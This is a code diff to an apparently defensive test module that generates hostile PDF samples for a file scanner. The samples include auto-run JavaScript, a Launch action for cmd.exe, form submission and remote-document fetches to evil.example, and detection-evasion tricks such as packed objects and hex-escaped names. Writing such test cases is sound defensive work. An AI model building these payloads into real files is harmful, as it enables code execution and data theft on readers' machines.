@@ -59,11 +59,16 @@ def action(**what: object) -> Dictionary:
     return Dictionary({f"/{key}": value for key, value in what.items()})
 
 
+def script() -> Dictionary:
+    return action(S=Name.JavaScript, JS=String("app.alert(1)"))
+
+
 def pdfs() -> Iterator[Hostile]:
-    script = action(S=Name.JavaScript, JS=String("app.alert(1)"))
-    yield _pdf("script on opening", "script", OpenAction=script)
-    yield _pdf("script in names", "script", Names=Dictionary(JavaScript=Dictionary(Names=Array([String("a"), script]))))
-    yield _pdf("script of a page", "script", AA=Dictionary(WC=script))
+    yield _pdf("script on opening", "script", OpenAction=script())
+    yield _pdf(
+        "script in names", "script", Names=Dictionary(JavaScript=Dictionary(Names=Array([String("a"), script()])))
+    )
+    yield _pdf("script of a page", "script", AA=Dictionary(WC=script()))
     yield _pdf("launch", "starts", OpenAction=action(S=Name.Launch, F=String("cmd.exe")))
     yield _pdf("form that sends", "fetches", OpenAction=action(S=Name.SubmitForm, F=String("https://evil.example/")))
     yield _pdf("remote document", "fetches", OpenAction=action(S=Name.GoToR, F=String("\\\\evil.example\\a.pdf")))
@@ -74,10 +79,10 @@ def pdfs() -> Iterator[Hostile]:
     )
     yield _pdf("embedded file", "files_inside", Names=inside)
     yield _pdf("embedded document opened", "files_inside", OpenAction=action(S=Name.GoToE))
-    hidden = pdf_with(packed=True, OpenAction=script)
+    hidden = pdf_with(packed=True, OpenAction=script())
     assert b"JavaScript" not in hidden
     yield Hostile("script in a packed object", "packed.pdf", hidden, frozenset({"script"}))
-    plain = pdf_with(OpenAction=script)
+    plain = pdf_with(OpenAction=script())
     yield Hostile(
         "script under a hex name", "hex.pdf", plain.replace(b"/JavaScript", b"/J#61v#61Script"), frozenset({"script"})
     )
@@ -247,4 +252,5 @@ BAD_NAMES = {
 
 def names() -> Iterator[Hostile]:
     for number, (what, name) in enumerate(BAD_NAMES.items()):
-        yield Hostile(f"name: {what}", name, PDF + b"%%%d" % number)
+        if what != "surrogate":  # which no client can send
+            yield Hostile(f"name: {what}", name, PDF + b"%%%d" % number)
